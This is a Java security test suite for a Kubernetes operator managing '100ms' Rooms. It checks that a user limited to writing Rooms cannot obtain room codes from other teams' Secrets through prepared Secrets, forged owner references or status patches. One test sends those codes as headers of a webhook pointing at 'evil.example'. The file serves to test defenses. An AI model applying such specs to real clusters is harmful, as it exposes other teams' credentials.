package live.hundredms.operator.suites.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.OwnerReference;
import io.fabric8.kubernetes.api.model.OwnerReferenceBuilder;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.dsl.base.PatchContext;
import io.fabric8.kubernetes.client.dsl.base.PatchType;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Stream;
import live.hundredms.operator.api.Room;
import live.hundredms.operator.suites.behaviour.Scene;
import live.hundredms.operator.support.Team;

/**
 * Somebody who may write Rooms, and read no Secret, has their Room published in a Secret of others, or prepares one for it,
 * or names a published one if Secrets are sent.
 */
final class ForeignSecrets {
    private static final String OWN = "{template: classroom, publishTo: {secretName: room-own, roomCodes: [teacher, student]}}";

    private ForeignSecrets() {
    }

    /** Whose a prepared Secret is said to be. */
    private enum Owner {
        NOBODY(Published.TYPE, _ -> List.of()),
        /** It does not control the Secret. */
        FOLLOWED(Published.TYPE, parts -> List.of(reference(parts.thief(), false))), NEIGHBOUR(Published.TYPE,
                parts -> List.of(reference(parts.own(), true))),
        /** The neighbour controls it, and the thief is named beside. */
        BOTH(Published.TYPE, parts -> List.of(reference(parts.own(), true), reference(parts.thief(), false))),
        /** A Room of the thief's name that is gone. */
        DEAD(Published.TYPE, parts -> List.of(new OwnerReferenceBuilder(reference(parts.thief(), true))
                .withUid(UUID.randomUUID().toString()).build())),
        /** It only bears the name. */
        OTHER_KIND(Published.TYPE, parts -> List.of(new OwnerReferenceBuilder(reference(parts.thief(), true))
                .withApiVersion("apps/v1").withKind("Deployment").withUid(UUID.randomUUID().toString()).build())),
        /** The thief controls it, but the operator makes no such Secrets. */
        OTHER_TYPE("Opaque", parts -> List.of(reference(parts.thief(), true))), BASIC_AUTH("kubernetes.io/basic-auth",
                parts -> List.of(reference(parts.thief(), true)));

        private final String type;
        private final Function<Parts, List<OwnerReference>> references;

        Owner(String type, Function<Parts, List<OwnerReference>> references) {
            this.type = type;
            this.references = references;
        }
    }

    private record Parts(Room own, Room thief) {
    }

    static Stream<Attack> attacks() {
        List<Attack> attacks = new ArrayList<>();
        attacks.add(new Attack("codes, the Secret of a neighbour", ForeignSecrets::publishesInto));
        attacks.add(new Attack("codes, two Rooms and one Secret at once", ForeignSecrets::publishTogether));
        for (Owner owner : Owner.values()) {
            attacks.add(new Attack("codes, a prepared Secret of " + owner, stage -> prepares(stage, owner)));
        }
        attacks.add(new Attack("codes, a prepared Secret that can't be changed", ForeignSecrets::preparesImmutable));
        attacks.add(
                new Attack("codes, as headers of a webhook", stage -> sends(stage, SentSecrets.asHeaders("room-own"))));
        attacks.add(new Attack("codes, one header of a webhook",
                stage -> sends(stage, "webhook: {url: 'https://evil.example/hook', "
                        + "headersSecretRef: {name: room-own, keys: [code.teacher]}}")));
        attacks.add(new Attack("codes, as credentials of a bucket", stage -> sends(stage,
                SentSecrets.forStorage("name: room-own, keyField: code.teacher, secretField: code.student"))));
        attacks.add(new Attack("codes, as credentials of a Workspace", stage -> signsIn(stage,
                Map.of("name", "room-own", "accessKeyField", "roomId", "appSecretField", "code.teacher"))));
        attacks.add(new Attack("codes, as a token of a Workspace",
                stage -> signsIn(stage, Map.of("name", "room-own", "managementTokenField", "code.teacher"))));
        attacks.add(new Attack("codes, a status that names the Secret of a neighbour",
                stage -> forgesStatus(stage, "room-own")));
        attacks.add(new Attack("codes, a status that names the Secret with the credentials",
                stage -> forgesStatus(stage, "keys")));
        return attacks.stream();
    }

    private static OwnerReference reference(Room room, boolean controls) {
        return new OwnerReferenceBuilder().withApiVersion("100ms.live/v1").withKind("Room")
                .withName(room.getMetadata().getName()).withUid(room.getMetadata().getUid())
                .withController(controls ? true : null).build();
    }

    /** A team with a Room {@code own} that is published. */
    private static Scene published(AttackStage stage) {
        Scene team = stage.team("victim").withWorkspace();
        team.room("own", OWN);
        team.awaitReason("own", "UpToDate", AttackStage.soon());
        return team;
    }

    private static void publishesInto(AttackStage stage) {
        Scene team = published(stage);
        Published before = Published.of(stage, team);
        Person person = stage.roomWriter(team);

        Room thief = person.create(team.namespace(), EditedManifest.of("thief", OWN));
        stage.awaitReason(team, thief, "SecretNotOwned");
        int calls = codeCalls(stage, team);
        person.metadata(thief, Map.of("annotations", Map.of("100ms.live/rotate-room-codes", "now")));
        looks(team, "thief");
        assertThat(codeCalls(stage, team)).as("calls for codes that can be written nowhere").isEqualTo(calls);
        before.check(team);

        stage.delete(person, thief);
        before.check(team);
    }

    /** One of them is first, and the other one gets nothing. */
    private static void publishTogether(AttackStage stage) {
        Scene team = stage.team("victim").withWorkspace();
        Person person = stage.roomWriter(team);
        List<Room> rooms = Stream.of("one", "two")
                .map(name -> person.create(team.namespace(), EditedManifest.of(name, OWN))).toList();

        AttackStage.soon()
                .until(() -> rooms.stream().map(room -> team.seen(room.getMetadata().getName()))
                        .filter(seen -> seen.says("UpToDate")).count() == 1
                        && rooms.stream().map(room -> team.seen(room.getMetadata().getName()))
                                .filter(seen -> seen.says("SecretNotOwned")).count() == 1);
        Room winner = rooms.stream().filter(room -> team.seen(room.getMetadata().getName()).says("UpToDate"))
                .findFirst().orElseThrow();
        Secret secret = secret(team, "room-own");
        assertThat(secret.getMetadata().getOwnerReferences()).extracting(OwnerReference::getUid)
                .containsExactly(winner.getMetadata().getUid());
        Published before = Published.of(stage, team);
        rooms.forEach(room -> looks(team, room.getMetadata().getName()));
        before.check(team);
    }

    private static Room unpublished(AttackStage stage, Scene team, Person person) {
        Room thief = person.create(team.namespace(), EditedManifest.of("thief", "template: classroom"));
        stage.awaitReason(team, thief, "UpToDate");
        return thief;
    }

    private static SecretBuilder prepared(Scene team, String type, List<OwnerReference> owners) {
        return new SecretBuilder().withNewMetadata().withNamespace(team.namespace()).withName("room-prepared")
                .withOwnerReferences(owners).endMetadata().withType(type).addToStringData("username", "theirs");
    }

    private static void prepares(AttackStage stage, Owner owner) {
        Scene team = published(stage);
        Person person = stage.roomWriter(team);
        Room thief = unpublished(stage, team, person);
        Room own = team.seen("own").room();
        team.client().resource(prepared(team, owner.type, owner.references.apply(new Parts(own, thief))).build())
                .create();
        Published before = Published.of(stage, team);

        person.spec(thief,
                Map.of("publishTo", Map.of("secretName", "room-prepared", "roomCodes", List.of("teacher", "student"))));
        stage.awaitReason(team, thief, "SecretNotOwned");
        int calls = codeCalls(stage, team);
        looks(team, "thief");
        assertThat(codeCalls(stage, team)).as("calls for codes that can be written nowhere").isEqualTo(calls);
        before.check(team);

        person.spec(thief, Map.of("publishTo", Map.of("secretName", "room-other")));
        stage.awaitReason(team, thief, "UpToDate");
        before.check(team);
    }

    /** The thief controls it, but nobody may write it. */
    private static void preparesImmutable(AttackStage stage) {
        Scene team = published(stage);
        Person person = stage.roomWriter(team);
        Room thief = unpublished(stage, team, person);
        team.client()
                .resource(prepared(team, Published.TYPE, List.of(reference(thief, true))).withImmutable(true).build())
                .create();
        Published before = Published.of(stage, team);

        person.spec(thief, Map.of("publishTo", Map.of("secretName", "room-prepared", "roomCodes", List.of("teacher"))));
        stage.awaitReason(team, thief, "CannotWriteSecret");
        int calls = codeCalls(stage, team);
        looks(team, "thief");
        looks(team, "thief");

        assertThat(codeCalls(stage, team)).as("calls for codes that can be written nowhere").isEqualTo(calls);
        assertThat(secret(team, "room-prepared")).isEqualTo(before.secrets().get("room-prepared"));
    }

    private static void sends(AttackStage stage, String spec) {
        Scene team = published(stage);
        Published before = Published.of(stage, team);

        SentSecrets.refused(stage, team, spec);

        before.check(team);
    }

    /** Somebody who may write Workspaces as well; what is signed with a code can be tried out by whoever gets it. */
    private static void signsIn(AttackStage stage, Map<String, String> reference) {
        Scene team = published(stage);
        Published before = Published.of(stage, team);
        Person person = stage.workspaceWriterWithoutSecrets(team);

        new Team(person.client(), team.namespace()).apply("Workspace", "thief",
                Map.of("endpoint", stage.endpoint(false), "credentialsSecretRef", reference));
        AttackStage.soon().until(() -> !Set.of("", "Pending").contains(stage.workspaceReason(team, "thief")));

        assertThat(stage.workspaceReason(team, "thief")).isEqualTo("SecretNotAllowed");
        before.check(team);
    }

    /** Who may write a status does not get at Secrets that way. */
    private static void forgesStatus(AttackStage stage, String name) {
        Scene team = published(stage);
        Person person = stage.roomWriter(team);
        Person tool = stage.backupTool(team);
        Room thief = unpublished(stage, team, person);
        Published before = Published.of(stage, team);
        List<Map<String, String>> codes = Objects.requireNonNull(team.seen("own").status().roomCodes()).stream()
                .map(code -> Map.of("role", Objects.requireNonNull(code.role()), "fingerprint",
                        Optional.ofNullable(code.fingerprint()).orElse("")))
                .toList();

        tool.client().resources(Room.class).inNamespace(team.namespace()).withName("thief").subresource("status").patch(
                PatchContext.of(PatchType.JSON),
                Serialization.asJson(List.of(
                        Map.of("op", "add", "path", "/status/publishedSecret", "value",
                                Map.of("name", name, "fingerprint", "none")),
                        Map.of("op", "add", "path", "/status/roomCodes", "value", codes))));
        looks(team, "thief");
        before.check(team);
        person.spec(thief, Map.of("publishTo", Map.of("secretName", "room-other")));
        stage.awaitReason(team, thief, "UpToDate");

        before.check(team);
    }

    private static int codeCalls(AttackStage stage, Scene team) {
        return stage.world().simulator().state().callsOf(team.key()).entrySet().stream()
                .filter(call -> call.getKey().contains("room-codes")).mapToInt(Map.Entry::getValue).sum();
    }

    private static Secret secret(Scene team, String name) {
        return team.client().secrets().inNamespace(team.namespace()).withName(name).require();
    }

    static void looks(Scene team, String room) {
        String value = "look-" + System.nanoTime();
        team.annotateRoom(room, "100ms.live/reconcile-requested-at", value);
        AttackStage.soon().until(() -> value.equals(team.seen(room).status().lastHandledReconcileAt()));
    }
}
